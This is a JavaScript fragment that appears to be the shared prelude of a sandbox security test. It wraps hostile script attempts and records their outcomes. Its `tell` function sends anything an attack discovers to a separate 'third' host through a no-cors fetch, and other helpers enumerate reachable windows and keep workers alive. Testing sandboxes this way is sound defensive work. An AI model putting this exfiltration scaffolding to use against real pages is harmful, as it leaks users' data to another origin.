// Stands before every attack, in one function with it: `third` (the trap's origin), `tag`, `token` and `wanted` are
// its arguments. The script may run in a worker, a frame or a page, so whatever is missing there is noted and passed
// over. What was done and found goes out with the reply, the only way that is always open.
const attempts = {};
const found = {};
const attacks = {};
/** An attack may put the callback off by so many milliseconds. */
let stay = 0;
/** What an attack still does once the callback has been called. */
let after = () => {};
const inWindow = typeof document !== "undefined";
const forged = { class: "token", id: "f0f0f0f0f0", forged: true };

const hit = (kind) => `${third}/${kind}`;

/** Tries one way; whether it worked is for the test to see, "done" says only that nothing was thrown. */
function attempt(name, action) {
  try {
    const outcome = action();
    attempts[name] = "done";
    if (outcome && typeof outcome.then === "function") outcome.then(undefined, () => {});
  } catch (error) {
    attempts[name] = String((error && error.name) || error);
  }
}

/** Keeps what was learnt and sends it to the third host. */
function tell(what, value) {
  found[what] = value;
  attempt(`tell-${what}`, () => fetch(`${hit(`told-${what}`)}?${encodeURIComponent(value)}`, { mode: "no-cors" }));
}

/** A new element in the page that we are in. */
function element(name, properties, text) {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(properties)) {
    if (key in made && typeof value !== "string") made[key] = value;
    else made.setAttribute(key, value);
  }
  if (text !== undefined) made.append(text);
  (document.body || document.documentElement).append(made);
  return made;
}

/** Every window in reach, by name. In a worker there is none and each one throws. */
function eachWindow(action) {
  for (const name of ["self", "parent", "top", "opener"]) attempt(name, () => action(globalThis[name], name));
}

/** A worker made from text, where `Blob` and `Worker` allow it. */
const blobUrl = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

/** A worker has no later turn once the reply is called: requests get their start now. */
function linger(milliseconds) {
  if (inWindow) return;
  for (const end = Date.now() + milliseconds; Date.now() < end; );
}

function run(callback) {
  if (wanted in attacks) attempt(wanted, attacks[wanted]);
  else for (const [name, attack] of Object.entries(attacks)) attempt(name, attack);
  linger(150);
  token.hostile = { wanted, attempts, found };
  if (stay) return void setTimeout(callback, stay, token);
  callback(token);
  attempt("after", after);
}
